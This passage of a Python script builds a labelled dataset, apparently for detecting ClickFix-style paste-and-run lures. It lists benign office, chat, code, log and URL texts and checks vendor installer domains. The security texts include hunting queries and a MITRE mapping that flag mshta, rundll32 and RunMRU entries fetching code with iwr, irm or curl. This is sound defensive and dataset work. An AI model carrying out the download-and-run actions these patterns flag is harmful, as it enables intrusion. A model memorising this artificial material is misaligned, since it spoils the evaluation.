    "\ub2e4\uc74c \uc8fc \uc6d4\uc694\uc77c\ubd80\ud130 \uc0ac\ub0b4 \uc640\uc774\ud30c\uc774 \ube44\ubc00\ubc88\ud638\uac00 \ubcc0\uacbd\ub429\ub2c8\ub2e4. \uc0c8 \ube44\ubc00\ubc88\ud638\ub294 \uc778\ud2b8\ub77c\ub137 \uacf5\uc9c0\ub97c \ucc38\uace0\ud558\uc138\uc694.",
    "Hej alla, fikan flyttas till torsdag kl 15 i stora k\u00f6ket. V\u00e4lkomna!",
    "Your Lufthansa booking ABC123 is confirmed. Manage it in the app or call the service centre at +49 69 86 799 799.",
    "Your AT&T bill for December is ready: $84.17 due 12/28. View it in the myAT&T app. Questions? Call 611 from your phone.",
    "Ihre Sparkasse: Ihr neues Online-Banking-Passwort wurde erfolgreich ge\u00e4ndert. Waren Sie das nicht? Rufen Sie die Nummer auf der R\u00fcckseite Ihrer Karte an.",
]
for i, text in enumerate(MAILS2):
    ok("support-mail", UNK, None if i % 2 else "https://mail.example.com/inbox", text)

SEC2 = [
    "Blue team drill: paste these into the test VM only. 1) `Get-Process -Name mshta` 2) `Get-WinEvent -LogName Microsoft-Windows-PowerShell/Operational -MaxEvents 20`",
    'SPL: index=edr parent_process_name=explorer.exe process_name IN (mshta.exe, wscript.exe, cscript.exe, rundll32.exe) | where like(command_line, "%http%") | table _time host user command_line',
    'Elastic rule idea: process where process.parent.name == "explorer.exe" and process.name == "conhost.exe" and process.args == "--headless"',
    "Phishing report: the sender used a lookalike domain (micros0ft-support[.]com). The mail asked staff to call a 'billing' number. Blocked at the gateway; 3 users reported it, 0 called.",
    "Lessons learned (INC-2026-0412): the user followed a fake 'Chrome update' banner. Controls that worked: EDR blocked msiexec from %TEMP%. Gap: no alert on the RunMRU write.",
    "Threat intel digest, week 49: ClickFix lures now impersonate Booking.com partner pages, Zoom waiting rooms and Steam family sharing. Payloads: Lumma, NetSupport, Latrodectus.",
    "MITRE mapping for ClickFix: T1204.004 (User Execution: Malicious Copy and Paste), T1059.001 (PowerShell), T1218.005 (Mshta), T1105 (Ingress Tool Transfer).",
    "Policy draft: browsers may not write to the clipboard from cross-origin iframes; security awareness module 'Paste with care' becomes mandatory in Q1.",
    "Hunting query (Defender): DeviceRegistryEvents | where RegistryKey has 'RunMRU' | where RegistryValueData has_any ('iwr','irm','mshta','curl','http') | project Timestamp, DeviceName, RegistryValueData",
    "From the tabletop: 'A user calls the help desk saying a site asked them to press Win+R to verify. They didn't. What do we do?' Answer: thank them, get the URL, block it, check proxy logs for other visitors.",
    "Osquery: SELECT name, path, cmdline FROM processes WHERE parent IN (SELECT pid FROM processes WHERE name = 'explorer.exe') AND name IN ('mshta.exe','powershell.exe');",
    "Sicherheitswarnung: Betr\u00fcger rufen derzeit im Namen der IT an und bitten, AnyDesk zu installieren. Die IT ruft niemals unaufgefordert an. R\u00fcckfragen \u00fcber die interne Hotline 1234.",
]
for i, text in enumerate(SEC2):
    ok(
        "security-writing",
        UNK,
        None if i % 2 else "https://wiki.example.com/security/" + str(i),
        text,
    )

CHAT2 = [
    "@channel the CI runners are back, the disk on runner-3 was full of docker layers",
    "I renamed the branch to feature/PAY-1432-sepa-export, please rebase",
    "do we have a template for the postmortem? the one from the wiki 404s",
    "can someone approve my expense for the Berlin trip, it's been pending 2 weeks",
    "the customer in Porto says the invoice PDF has the wrong VAT number, looping in billing",
    "it's `pnpm`, not npm, in that repo \u2013 the lockfile will get messed up otherwise",
    "reminder that the office heating is off on Saturday, bring a sweater if you come in",
    "lol the demo gods were kind today",
    "ok found it: the cron was in UTC and the report expected CET",
    "could you share the figma link for the onboarding screens?",
    "Jemand Lust auf Mittagessen beim Vietnamesen um 12?",
    "j'ai mis \u00e0 jour le ticket avec les logs du client",
    "\u00bfa qu\u00e9 hora es la demo con el cliente de Valencia?",
    "fatto, ho chiuso il ticket",
    "\u0413\u043e\u0442\u043e\u0432\u043e, \u0437\u0430\u0434\u0435\u043f\u043b\u043e\u0438\u043b \u043d\u0430 \u0441\u0442\u0435\u0439\u0434\u0436\u0438\u043d\u0433",
    "\u4e86\u89e3\u3067\u3059\u3001\u5348\u5f8c\u306b\u78ba\u8a8d\u3057\u307e\u3059",
    "\u597d\u7684\uff0c\u6211\u4e0b\u5348\u770b\u4e00\u4e0b",
    "sorry, wrong channel \ud83d\ude05".encode("utf-16", "surrogatepass").decode("utf-16"),
    "thanks! the VPN works again after I removed the old profile",
    "whoever left the oat milk in the fridge, you're a hero",
]
for text in CHAT2:
    ok("chat", UNK, None, text)

CODE2 = [
    "def retry(fn, attempts=3, delay=0.5):\n    for i in range(attempts):\n        try:\n            return fn()\n        except ConnectionError:\n            time.sleep(delay * 2 ** i)\n    raise RuntimeError('gave up')",
    'resource "aws_s3_bucket_public_access_block" "reports" {\n  bucket                  = aws_s3_bucket.reports.id\n  block_public_acls       = true\n  restrict_public_buckets = true\n}',
    "CREATE TABLE audit_events (\n  id bigserial PRIMARY KEY,\n  actor text NOT NULL,\n  action text NOT NULL,\n  at timestamptz DEFAULT now()\n);",
    "const formatEUR = n => new Intl.NumberFormat('de-DE', {style: 'currency', currency: 'EUR'}).format(n);",
    "Get-ChildItem -Recurse -Include *.tmp,*.bak -Path $env:USERPROFILE\\Projects | Remove-Item -WhatIf",
    "if [[ -z \"${DATABASE_URL:-}\" ]]; then echo 'DATABASE_URL not set' >&2; exit 1; fi",
    "useEffect(() => {\n  const id = setInterval(refresh, 30_000);\n  return () => clearInterval(id);\n}, []);",
    "@pytest.mark.parametrize('amount,expected', [(10, '10.00'), (0.1 + 0.2, '0.30')])\ndef test_money(amount, expected):\n    assert fmt(amount) == expected",
    "SELECT region, percentile_cont(0.95) WITHIN GROUP (ORDER BY latency_ms) FROM requests GROUP BY region;",
    "type Result<T> = { ok: true; value: T } | { ok: false; error: string };",
    "jq '.items[] | {name: .metadata.name, image: .spec.containers[0].image}' pods.json",
    "awk '$9 >= 500 {print $7}' access.log | sort | uniq -c | sort -rn | head",
    "git log --since='2 weeks ago' --author='anna' --pretty=format:'%h %ad %s' --date=short",
    "match cmd:\n    case ['go', direction]:\n        move(direction)\n    case ['quit']:\n        running = False",
    'Write-Host ("{0:N2} GB free" -f ((Get-PSDrive C).Free / 1GB))',
]
for i, text in enumerate(CODE2):
    ok("code", ["other", UNK, TERM][i % 3], None, text)

OFFICE2 = [
    "Hi Tom, attached are the signed timesheets for November. The client PO number is 4500-7781.",
    "Minutes \u2013 Works council, 5 Dec: approved the new home-office allowance (\u20ac 30/month from January).",
    "Travel policy update: economy class for flights under 6 hours; book via the travel portal only.",
    "Bonjour Claire, je vous confirme la r\u00e9servation de la salle Mercure pour le 19/12 de 9h \u00e0 12h.",
    "Sehr geehrter Herr Becker, vielen Dank f\u00fcr Ihre Bewerbung als Werkstudent. Wir laden Sie zu einem Gespr\u00e4ch am 16.12. ein.",
    "Reminder: the Secret Santa budget is \u20ac 20. Draw happens Friday at lunch.",
    "Q1 OKR draft: reduce checkout drop-off by 15 %; ship SEPA instant payouts; cut p95 API latency below 250 ms.",
    "Please update your emergency contact details in Workday by 20 December.",
    "Estimados, adjunto el presupuesto revisado con el descuento del 8 % acordado.",
    "Offerta n. 2026/311 valida 30 giorni dalla data di emissione. IVA esclusa.",
    "Parking garage level -2 is closed for cleaning on Tuesday; please use the visitor spaces.",
    "The new coffee machine takes badges now. Top up at reception.",
]
for text in OFFICE2:
    ok("office", UNK, None, text)

LOGS2 = [
    "2026-12-07 22:41:07,118 INFO  [scheduler] job=nightly-export rows=184233 duration=41.2s",
    "WARNING: apt does not have a stable CLI interface. Use with caution in scripts.",
    "Get-Service : Cannot find any service with service name 'Spoler'.",
    "The term 'kubectl' is not recognized as the name of a cmdlet, function, script file, or operable program.",
    'psql: error: connection to server at "db.internal" (10.0.2.15), port 5432 failed: FATAL:  password authentication failed for user "app"',
    'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space',
    "[ERROR] Failed to execute goal org.apache.maven.plugins:maven-surefire-plugin:3.2.5:test (default-test) on project orders: There are test failures.",
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (OrderList.jsx:27:19)",
    "Windows could not start the Print Spooler service on Local Computer. Error 1068: The dependency service or group failed to start.",
    "ssh: connect to host 10.0.3.14 port 22: Connection timed out",
]
for text in LOGS2:
    ok("log", UNK, None, text)

URL2 = [
    "https://contoso.sharepoint.com/:x:/r/sites/Ops/Shared%20Documents/Oncall%20Rota%20Q1.xlsx?d=w1a2b3c",
    "https://github.com/acme/orders-service/pull/1432/files",
    "https://gitlab.example.com/platform/infra/-/merge_requests/288",
    "https://app.datadoghq.eu/dashboard/abc-123-def/payments-overview?from_ts=1733600000000",
    "https://www.deepl.com/translator#de/en/Rechnung",
    "https://docs.google.com/spreadsheets/d/1Q2w3E4r5T6y7U8i9O0p/edit#gid=0",
    "https://miro.com/app/board/uXjVN1a2b3c=/",
    "https://www.notion.so/acme/Runbook-Payments-0a1b2c3d4e5f",
    "https://portal.azure.com/#view/Microsoft_AAD_IAM/UsersManagementMenuBlade/~/AllUsers",
    "https://admin.microsoft.com/Adminportal/Home#/users",
]
for i, text in enumerate(URL2):
    ok("url", [UNK, RUN][i % 2], None, text)


# ==============================================================================================
# Checks of this set's own, then writing
# ==============================================================================================

# Everyday texts that, by a script comparing digests with sets 1-22 (printing only counts and this
# set's ids), repeated an earlier set's text: dropped here so every benign text is new.
REPEATED_EARLIER = frozenset(
    {
        "458a15a7633b86ac",
        "69167032bb4c04d7",
        "d51f77e124502803",
        "000b989e2642513f",
        "00c5d0efab5185c1",
        "03b5c2226aca3028",
        "04dc5b2136328a0d",
        "068a530e627d6e7d",
        "08d9f7dccb589243",
        "0c15d9a5c6ed3587",
        "0d786772b31defff",
        "0fcd568a5cb9bdb4",
        "1366ac69534a20f4",
        "13dc044c0a4a072f",
        "13e00e362045067a",
        "141f074afd3b5422",
        "14856f32446624cd",
        "16137b5c3a70e638",
        "16da8769fb8fd9e5",
        "1851c82893c3fc7b",
        "1880db523a5b9913",
        "1dabf671dab15cf8",
        "1e397f96fff4675f",
        "1e987bfcfc9151fb",
        "1f6dc5c41cc12a7e",
        "217c76a999fa39f1",
        "218ca3e2ea3ab318",
        "222c0fdc1dccadfd",
        "23392f7a6861b3a5",
        "23f4243b9e8bc979",
        "25eacc6345bfcdea",
        "28117e076ffd8805",
        "28dca93969c7f114",
        "2b10d228b61ba7e6",
        "2b40e40bb0c81a7a",
        "2d305f717c390ff3",
        "2de43ebd2ad8e6a4",
        "311f38b7836c4228",
        "316eebafac5702c6",
        "3207c1dcb52716be",
        "322d1adafa86e975",
        "329b9fca73f7de22",
        "33663bf9dbc05dd7",
        "358cc93f7731e36c",
        "36af10824179986d",
        "36b32848a8ff6824",
        "39361b146d5cef31",
        "3d433d6b71b9ea7e",
        "3d617f5c50510336",
        "3f2d75af89571340",
        "404b7172ad63391a",
        "44fbe1ec086f8019",
        "44fbfbf1368fb749",
        "4774fd9f4c793e94",
        "488b10e419838714",
        "4906dc9aa51bd11f",
        "4bc246816b00a662",
        "4e240b1d524dc443",
        "50517d0eebfa0757",
        "513e8938c0964918",
        "5720f4543809bf53",
        "590a73bb89afd563",
        "5b641eb953d46f3d",
        "624809319c4b46fe",
        "62d2ce671e076323",
        "63642b1a42a4e42f",
        "63fbf0a89b83cb7b",
        "66852e988a0c66eb",
        "66fb867ef73e5b87",
        "67371648b07a494c",
        "6bdb8f5043f05352",
        "6cc2d1174b70fa80",
        "6e2356256fd5d781",
        "6e563691d0f007b1",
        "7043050f9076af97",
        "723c9d1ed9f2c583",
        "72aebdd9b3946863",
        "75259b6e2c36583a",
        "759aa2c6c2e7f3aa",
        "7673cc04e4115450",
        "7cfab2f553b12b68",
        "7d78d6a2290d9b63",
        "7d80be442919dc9e",
        "7e02a0892a9b60c5",
        "7fbdfedbd69ea683",
        "80487418126c0471",
        "808e85c70681defe",
        "8157ac70ccf65f17",
        "81bed13ca9457fcf",
        "81dea06acef4c9cf",
        "8484d884293b6e1a",
        "848a22deb5bc02ea",
        "84cdb68caa29f991",
        "86ac4b0acc47c3f1",
        "86f51b17077aee2d",
        "87a2a32c5d305e9c",
        "8eac262b58a65987",
        "8fc5702ccf53de3a",
        "94b5c9145a941e54",
        "965658a047d2e95d",
        "96913aefe58f33ed",
        "9766a405fbf3d046",
        "9779e129f73e2318",
        "97f2de54bbd6f8b6",
        "985ec64269613666",
        "9c12e96750441814",
        "9c86c6a2a0681417",
        "9caeebfa4d13956e",
        "a0437992385b9cd0",
        "a13c818f4694da13",
        "a13ec28046b919f3",
        "a16840221302070b",
        "a169b7207204a43f",
        "a2ba8cc8e3d21456",
        "a340ccaee5ecbe46",
        "a347ae62b3adcad5",
        "a3c2ff040a270c41",
        "a475eac257a5d3f0",
        "a51b5850b0b5e98e",
        "a65fa9de21c37905",
        "a968b2b47e6c8c0f",
        "aae3cea87f0253ef",
        "aca4c7907d35167a",
        "af79fbd27fb2ce7b",
        "b0d0cbaf820a1845",
        "b0fdaf523e2a269d",
        "b3c5332dc7f6d57e",
        "b4a28562dd8a9f09",
        "b4fb5dccebbaf03e",
        "b5b8e09e9eda0599",
        "b764187eca9113e2",
        "b7b479e0123d4907",
        "b87a078068e1c0fe",
        "ba5ee5f1e5bf11e9",
        "bac6b679ba23920a",
        "bc6757c26ddc00d5",
        "be7661c5c1522142",
        "c0dda41994b0d3a7",
        "c0f31387084c7d3d",
        "c1b604763c3225de",
        "c38c0839ca2e2301",
        "c4d6c043b6db25ab",
        "c5f217c8c267b763",
        "c8042652f0414f88",
        "c90f0acb287d5b96",
        "c9f42ead4afa7bcc",
        "cc337516963f3666",
        "cd1ff68984f6ed91",
        "cfd7137b9a00e27d",
        "d0116822047f98f4",
        "d26d57ae4beb0237",
        "d407c6e62ea75544",
        "d7da73ec9ff05c8c",
        "d82949a1c417f6ed",
        "dae273653cce68ad",
        "de27c296c53aac6a",
        "de981afc88793757",
        "deaefee1ca50fe7f",
        "e00c4d8ddefe219e",
        "e14c05ccf09999be",
        "e1acac64443972cd",
        "e388d215a5c482a0",
        "e3eb10ca8e1faa74",
        "e5d058f70642c1f7",
        "e693f378a4b87e34",
        "e779dbb53c67e27f",
        "e93311a2b37b24aa",
        "ea439dee00cedfcc",
        "eea6a3b6ff9f1fe9",
        "f163a19deb30e37e",
        "f1cd892c445b7466",
        "f6bb60dee1b55ab7",
        "f733afb2da73a36b",
        "f7349ef62f4e473a",
        "f7fe235db35a39c8",
        "f94fec7d9ef8a0ca",
        "faba1e00af8e6c89",
        "fbc84072c849ae3c",
        "fc06dc46d8730d0f",
        "fc243fc028165f0a",
        "fceb64cc0bef7c98",
    }
)

# A vendor's script host that is the same company's under another registrable domain (checked by
# hand: each is the host the vendor's own install page names).
SAME_COMPANY = {
    "deno.com": {"deno.land"},
    "ohmyz.sh": {"githubusercontent.com"},
    "brew.sh": {"githubusercontent.com"},
    "jdx.dev": {"mise.run"},
    "bun.sh": {"bun.sh"},
}


def _registrable(host: str) -> str:
    parts = host.lower().split(".")
    if ".".join(parts[-2:]) in ("vercel.app", "github.io"):
        return ".".join(parts[-3:])
    return ".".join(parts[-2:])


def check_own_pages(benign: list[Benign]) -> None:
    """Each installer line fetches from its own page's project (same GitHub owner/repo, the
    project's own site, its JSR scope) and each vendor line from its own page's company."""
    for kind, _, source, text in benign:
        if kind not in (OWN, "vendor-own-page") or source is None:
            continue
        page_host = re.match(r"https://([^/]+)", source)
        assert page_host, source
        ph = page_host.group(1).lower()
        if ph == "github.com":
            owner, repo = [x.lower() for x in source.split("/")[3:5]]
            repo = repo.split("#")[0]
            refs = re.findall(
                r"(?:github\.com|githubusercontent\.com|github:|ubi:)/?([A-Za-z0-9_.-]+)/([A-Za-z0-9_.-]+)",
                text,
            )
            hosts = set(re.findall(r"https?://([^/\s'\"]+)", text)) - {
                "github.com",
                "raw.githubusercontent.com",
            }
            for o, _r in refs:
                if o.lower() != owner:
                    raise SystemExit(
                        f"own-page line of {owner}/{repo} fetches another owner's code: {o}"
                    )
            for h in hosts:
                if repo.split("-")[0] not in h.lower():
                    raise SystemExit(f"own-page line of {owner}/{repo} fetches from {h}")
            if not refs and not hosts:
                raise SystemExit(f"own-page line of {owner}/{repo} names no source of its own")
        elif ph == "jsr.io":
            scope = source.split("/")[3]
            if f"jsr:{scope}/" not in text:
                raise SystemExit(f"jsr line does not install from {scope}")
        else:
            page_dom = _registrable(ph)
            for h in re.findall(r"https?://([^/\s'\"]+)", text) + re.findall(
                r"(?:irm|curl|iwr)\s+([a-z0-9.-]+\.[a-z]{2,})/", text
            ):
                dom = _registrable(h)
                if dom != page_dom and dom not in SAME_COMPANY.get(page_dom, set()):
                    raise SystemExit(f"vendor line from {source} fetches from {h}")


def _digest(text: str) -> str:
    return hashlib.sha256(re.sub(r"\s+", " ", text.strip().lower()).encode()).hexdigest()[:16]


LURES_OUT = HERE / "lures-23.jsonl"
BENIGN_OUT = HERE / "benign-23.jsonl"


def kept_benign() -> list[Benign]:
    """The benign texts less those an earlier set already had, after the own-page check."""
    kept = [b for b in B if _digest(b[3]) not in REPEATED_EARLIER]
    check_own_pages(kept)
    return kept


def lure_rows() -> list[dict[str, str]]:
    return _lure_rows(PREFIX, L)


def benign_rows() -> list[dict[str, str]]:
    return _benign_rows(PREFIX, kept_benign())


if __name__ == "__main__":
    main(PREFIX, L, kept_benign(), LURES_OUT, BENIGN_OUT)
